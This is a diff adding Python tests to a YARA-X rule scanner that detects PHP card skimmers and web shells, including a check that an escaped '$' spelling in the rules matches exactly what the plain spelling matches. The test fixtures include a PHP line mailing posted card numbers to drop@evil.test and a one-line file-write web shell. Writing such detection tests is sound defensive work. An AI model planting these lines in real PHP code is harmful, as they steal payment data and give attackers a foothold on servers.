@@ -428,3 +428,39 @@ def test_a_thread_reuses_its_scanner_per_rule_set() -> None:
     text = "<?php\n$x = 1;\nmail('drop@evil.test', 's', $_POST['cc_number']);\n"
     assert scan_rules(text, language=Language.PHP) == scan_rules(text, language=Language.PHP)
     assert [h.rule_id for h in scan_rules(text, language=Language.PHP)] == ["SG429", "SG430"]
+
+
+# --- atom steering (skimmer_server.yar: superglobals spelled [$\xff]_POST) -----------------------
+
+_STEERED = "[$\\xff]_"
+
+
+def _all_fixture_texts() -> list[bytes]:
+    return [p.read_text(encoding="utf-8").encode("utf-8") for p in sorted(FIXTURES.rglob("*")) if p.is_file()]
+
+
+def test_steered_superglobals_match_exactly_what_the_plain_spelling_matches() -> None:
+    sources = packaged_rule_sources()
+    patterns = [line for text in sources.values() for line in text.splitlines() if line.lstrip().startswith("$")]
+    assert sum(_STEERED in line for line in patterns) == 11
+    plain = compile_rules({name: text.replace(_STEERED, "\\$_") for name, text in sources.items()})
+    texts = _all_fixture_texts()
+    assert len(texts) == 98
+    for data in texts:
+        assert _every_match(packaged_rules().scan(data)) == _every_match(plain.scan(data))
+
+
+def _every_match(results: yara_x.ScanResults) -> list[tuple[str, str, int, int]]:
+    return [
+        (rule.identifier, pattern.identifier, match.offset, match.length)
+        for rule in results.matching_rules
+        for pattern in rule.patterns
+        for match in pattern.matches
+    ]
+
+
+def test_the_steering_byte_never_reaches_the_scanner() -> None:
+    # 0xFF is never part of UTF-8: a "ÿ" (U+00FF) where the "$" should be is not a superglobal
+    shell = "<?php fwrite(fopen($_GET['f'], 'w'), $_POST['c']);"
+    assert "SG470" in {hit.rule_id for hit in scan_rules(shell, language=Language.PHP)}
+    assert "SG470" not in {hit.rule_id for hit in scan_rules(shell.replace("$_", "\u00ff_"), language=Language.PHP)}
